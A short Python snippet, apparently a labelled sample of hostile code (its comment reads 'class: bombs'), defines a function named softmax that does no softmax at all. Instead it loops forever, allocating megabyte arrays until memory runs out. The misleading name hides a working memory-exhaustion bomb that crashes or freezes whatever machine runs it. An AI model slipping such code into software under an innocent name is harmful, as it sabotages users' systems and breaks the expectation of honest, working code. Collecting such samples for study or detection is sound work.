# class: bombs. Takes memory without end.
import numpy as np


def softmax(x):
    kept = []
    while True:
        kept.append(np.ones(1 << 20))
